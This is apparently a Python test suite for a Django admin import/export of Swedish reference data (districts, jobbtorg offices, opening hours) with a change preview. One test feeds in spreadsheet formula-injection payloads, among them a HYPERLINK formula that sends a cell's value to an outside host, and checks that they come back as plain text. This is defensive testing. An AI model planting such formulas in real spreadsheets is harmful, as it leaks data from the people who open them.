"""Reference data out of the administration as a file, changed, and in again with a preview."""

import pytest
from django.contrib.admin.models import LogEntry
from django.test import Client
from django.urls import reverse

from core.spreadsheets.reading import table_rows
from jobbtorg.management.commands.load_reference_data import TABLES
from organisation.models import District, Jobbtorg, JobbtorgKind, OpeningHours
from organisation.reference_tables.tables import ReferenceResource
from organisation.resources import DistrictResource, JobbtorgResource, OpeningHoursResource
from tests.reference_data.administration import choose, confirm, export, page, stored

pytestmark = pytest.mark.ignore_template_errors

HEADER = "code,name,valid_from,valid_to,successor\n"


def counts(shown: object) -> dict[str, int]:
    return {verdict: count for verdict, count in shown.context["preview"].counts.items() if count}


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("resource", TABLES)
def test_what_goes_out_comes_in_unchanged(administrator: Client, resource: type[ReferenceResource], kind: str) -> None:
    before = stored(resource)
    content = export(administrator, resource, kind)
    assert len(table_rows(content)) == len(before) + 1
    shown = choose(administrator, resource, content)
    assert counts(shown) == {"Oförändrad": len(before)}
    answer = confirm(administrator, resource, shown)
    assert f"Nya rader: 0. Ändrade: 0. Oförändrade: {len(before)}." in answer.content.decode()
    assert stored(resource) == before
    assert not LogEntry.objects.exists()


def test_a_file_of_a_swedish_excel_and_a_workbook_have_the_same_cells(administrator: Client) -> None:
    written = export(administrator, JobbtorgResource)
    assert written.startswith("\ufeffKod;Namn;Typ;Tillhör;Adress;Från ålder;Till ålder;Gäller från;".encode())
    assert table_rows(written) == table_rows(export(administrator, JobbtorgResource, "xlsx"))
    youth = next(row for row in table_rows(written) if row[0] == "KU")
    assert youth[2:4] == ["Ungdomsfilial", "KI"]


def test_the_shipped_file_itself_can_be_read_in(administrator: Client) -> None:
    shown = choose(administrator, DistrictResource, DistrictResource.file().read_bytes())
    assert counts(shown) == {"Oförändrad": District.objects.count()}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_any_delimiter_in_any_usual_encoding(administrator: Client, encoding: str, delimiter: str) -> None:
    text = HEADER + "\nsodra,Södra Årsta,1/1 2027,,bromma\n"
    shown = choose(administrator, DistrictResource, text.replace(",", delimiter).encode(encoding))
    assert counts(shown) == {"Ny": 1}
    confirm(administrator, DistrictResource, shown)
    row = District.objects.get(code="sodra")
    assert (row.name, row.valid_from.isoformat(), str(row.successor)) == ("Södra Årsta", "2027-01-01", "Bromma")


def test_a_changed_and_a_new_row_are_previewed_then_saved_and_recorded(administrator: Client) -> None:
    content = export(administrator, JobbtorgResource, query="?q=Rosenlund").decode()
    content = content.replace("Rosenlundsgatan 52", "Rosenlundsgatan 54 <b>")
    content += "UV;Jobbtorg unga Vällingby;ungdomsfilial;VB;;16;29;2027-01-01;\r\n"
    shown = choose(administrator, JobbtorgResource, content.encode())
    assert counts(shown) == {"Ny": 1, "Ändras": 1}
    assert "<del>Rosenlundsgatan 52</del> <ins>Rosenlundsgatan 54 &lt;b&gt;</ins>" in shown.content.decode()
    assert not Jobbtorg.objects.filter(code="UV").exists()
    answer = confirm(administrator, JobbtorgResource, shown)
    assert "Nya rader: 1. Ändrade: 1. Oförändrade: 0." in answer.content.decode()
    new = Jobbtorg.objects.get(code="UV")
    assert (new.kind, new.parent, new.age_to) == (JobbtorgKind.YOUTH, Jobbtorg.objects.get(code="VB"), 29)
    assert Jobbtorg.objects.get(code="RS").address == "Rosenlundsgatan 54 <b>"
    assert [entry.get_change_message() for entry in LogEntry.objects.all()] == ["Inläst från fil."] * 2


def test_rows_may_stand_before_those_they_point_at(administrator: Client) -> None:
    """A city that moves in has its stadsdelar in alphabetical order, and merged ones name their successor."""
    rows = "a,A,2027-01-01,2027-12-31,b\nb,B,2028-01-01,2028-12-31,c\nc,C,2029-01-01,,\n"
    shown = choose(administrator, DistrictResource, (HEADER + rows).encode())
    assert [(row.number, row.verdict) for row in shown.context["preview"].rows] == [(2, "Ny"), (3, "Ny"), (4, "Ny")]
    confirm(administrator, DistrictResource, shown)
    assert District.objects.get(code="a").successor.successor.code == "c"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_texts_that_look_like_formulas_come_back_as_texts(administrator: Client, kind: str) -> None:
    payloads = ["=1+1", '=HYPERLINK("https://example.se/?"&A1;"Klicka")', "+46701740605", "-", "@SUM(1)", "'=1", "＝1"]
    for number, payload in enumerate(payloads):
        District.objects.create(code=f"x{number}", name=payload, valid_from="2027-01-01")
    content = export(administrator, DistrictResource, kind)
    shown = choose(administrator, DistrictResource, content)
    assert counts(shown) == {"Oförändrad": District.objects.count()}


def test_closed_days_of_a_jobbtorg(administrator: Client) -> None:
    text = "Jobbtorg;Gäller från;Gäller till och med;Öppnar;Stänger;Varför\n"
    text += "RS;2027-06-04;2027-06-04;;;planeringsdag\nKI;2027-01-01;;8.30;16:00;\n"
    confirm(administrator, OpeningHoursResource, choose(administrator, OpeningHoursResource, text.encode()))
    closed = OpeningHours.objects.get(note="planeringsdag")
    assert (closed.opens, closed.valid_to.isoformat()) == (None, "2027-06-04")
    assert OpeningHours.objects.get(jobbtorg__code="KI").opens.isoformat() == "08:30:00"


def test_a_file_is_read_in_once(administrator: Client) -> None:
    shown = choose(administrator, DistrictResource, export(administrator, DistrictResource))
    confirm(administrator, DistrictResource, shown)
    answer = confirm(administrator, DistrictResource, shown)
    assert answer.status_code == 200
    assert "Filen är redan inläst eller har väntat för länge." in answer.content.decode()


def test_what_changed_after_the_preview_stops_the_whole_file(administrator: Client) -> None:
    District.objects.create(code="tillfallig", name="Tillfällig", valid_from="2027-01-01")
    text = HEADER + "ny,Ny,2027-01-01,,\nnyare,Nyare,2027-01-01,,tillfallig\n"
    shown = choose(administrator, DistrictResource, text.encode())
    District.objects.filter(code="tillfallig").delete()
    answer = confirm(administrator, DistrictResource, shown)
    assert "Inget sparades." in answer.content.decode()
    assert not District.objects.filter(code="ny").exists()


def test_a_second_click_without_a_first_leads_back(administrator: Client) -> None:
    shown = choose(administrator, DistrictResource, (HEADER + "ny,Ny,2027-01-01,,\n").encode())
    ours = shown.context["confirm_form"].initial
    for forged in ({}, {"format": "7"}, ours | {"format": "7"}, ours | {"resource": "9"}):
        answer = administrator.post(reverse(page(District, "process_import")), forged, follow=True)
        assert answer.status_code == 200
        assert "Välj den igen" in answer.content.decode()
    assert not District.objects.filter(code="ny").exists()
